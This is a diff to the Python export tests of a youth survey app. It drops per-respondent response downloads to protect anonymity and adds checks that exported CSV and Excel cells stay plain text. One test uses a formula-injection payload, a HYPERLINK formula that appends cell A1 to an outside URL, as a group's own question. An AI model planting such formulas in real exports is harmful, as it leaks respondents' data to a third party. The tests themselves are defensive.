@@ -29,14 +29,11 @@ def test_below_the_minimum_nothing_leaves(app, leader):
     _answered(app, world.measurement, [5, 5, 1, 1])
     base = f"/lead/measurements/{world.measurement}/export"
     assert _csv(client.get(f"{base}/results.csv"))[1:] == []
-    refused = client.get(f"{base}/responses.csv")
-    assert refused.status_code == 409 and "minst 5 unga" in refused.text
-    assert client.get(f"{base}/responses.xlsx").status_code == 409
     assert client.get(f"{base}/everything.csv").status_code == 404
     assert client.get(f"{base}/results.pdf").status_code == 404
 
 
-def test_results_and_anonymous_answers_as_csv_and_excel(app, leader):
+def test_results_as_csv_and_excel_and_never_a_row_per_young_person(app, leader):
     client, world = leader
     _answered(app, world.measurement, [1, 2, 3, 4, 5, 5])
     base = f"/lead/measurements/{world.measurement}/export"
@@ -51,14 +48,12 @@ def test_results_and_anonymous_answers_as_csv_and_excel(app, leader):
     sheet = [list(r) for r in workbook.active.iter_rows(values_only=True)]
     assert [c for c in next(r for r in sheet if r[3] == "work.apply")][5:] == [6, 1, 1, 1, 1, 2, 0, 3.33, 0.5, 58.3]
 
-    answers = _csv(client.get(f"{base}/responses.csv"))
-    # A column for each question the results show: the other focus areas had no answers.
-    assert len(answers) == 7 and answers[0][0] == "work.apply" and all(k.startswith("work.") for k in answers[0])
-    assert sorted(r[0] for r in answers[1:]) == ["1", "2", "3", "4", "5", "5"]
-    assert "health.sleep" not in answers[0]
-    download = client.get(f"{base}/responses.xlsx")
-    assert re.fullmatch(r'attachment; filename="\w{6}-responses.xlsx"', download.headers["Content-Disposition"])
-    assert load_workbook(io.BytesIO(download.data)).active.max_row == 7
+    # In a group of five to seven every row of answers is unique: one answer a leader knows would single
+    # out the rest, so no export holds rows per young person.
+    summary = client.get(f"/lead/measurements/{world.measurement}/summary")
+    assert summary.status_code == 200 and "results.csv" in summary.text and "responses" not in summary.text
+    for kind in ("responses.csv", "responses.xlsx"):
+        assert client.get(f"{base}/{kind}").status_code == 404
 
 
 def test_open_answers_leave_only_when_approved_and_never_as_formulas(app, leader):
@@ -83,4 +78,46 @@ def test_open_answers_leave_only_when_approved_and_never_as_formulas(app, leader
     client.post(f"/lead/answers/{answer_id}/moderation", data={"csrf_token": token, "state": "approved"})
     shared = [r for r in _csv(client.get(f"{base}/results.csv")) if r[0] == "open_answer"]
     assert shared == [["open_answer", "work", "", "", "'=HYPERLINK(\"x\")"] + [""] * 10]
-    assert "HYPERLINK" not in client.get(f"{base}/responses.csv").text
+    assert _xlsx_cell(client.get(f"{base}/results.xlsx"), 0, "open_answer", 4) == ("=HYPERLINK(\"x\")", "s")
+
+
+def _xlsx_cell(download, key_column: int, key: str, column: int) -> tuple:
+    """The value and type of a cell of the downloaded workbook's row whose ``key_column`` holds ``key``."""
+    assert download.status_code == 200
+    rows = load_workbook(io.BytesIO(download.data)).active.iter_rows()
+    cell = next(row for row in rows if row[key_column].value == key)[column]
+    return cell.value, cell.data_type
+
+
+def test_no_text_of_any_export_is_opened_as_a_formula(app):
+    """A group's own question, an indicator's title in a draft: whoever typed it, it stays text."""
+    from mina_svar import accounts, answering, cycles, db, organising, questionnaire, xlsform
+    from mina_svar.models import Questionnaire
+
+    formula = '=HYPERLINK("http://example.org/?"&A1,"Click")'
+    with app.app_context():
+        session = db.session()
+        organisation = organising.create_organisation(session, "Föreningen")
+        group = organising.create_group(session, organisation, "Gruppen")
+        leader = accounts.create_user(session, "own@example.org", "Anna", "a-long-test-password")
+        organising.assign_leader(session, group, leader)
+        cycle = cycles.start_cycle(session, group, "Hösten", None, None, leader)
+        cycles.add_own_question(session, cycle, {"sv": formula}, "agree5", leader)
+        measurement = cycles.open_measurement(session, cycle, "baseline", leader)
+        own = questionnaire.structure(session, measurement.questionnaire_id).areas[-1].questions[0].id
+        for value in (1, 2, 3, 4, 5):
+            respondent = answering.start(session, measurement, "sv")
+            answering.save(session, respondent, {own: answering.Given(value=value)})
+            answering.finish(session, respondent)
+        release(session, measurement)
+        measurement_id, version = measurement.id, session.get(Questionnaire, measurement.questionnaire_id)
+        workbook = load_workbook(io.BytesIO(xlsform.workbook(version)))
+    client = app.test_client()
+    assert sign_in(client, "own@example.org").status_code == 302
+    base = f"/lead/measurements/{measurement_id}/export"
+    row = next(r for r in _csv(client.get(f"{base}/results.csv")) if r[3] == "own.q1")
+    assert row[4] == "'" + formula and row[5] == "5"
+    assert _xlsx_cell(client.get(f"{base}/results.xlsx"), 3, "own.q1", 4) == (formula, "s")
+    labels = [row for row in workbook["survey"].iter_rows() if row[1].value == "own.q1"]
+    assert labels and all(cell.data_type == "s" for cell in labels[0] if isinstance(cell.value, str))
+    assert formula in [cell.value for cell in labels[0]]
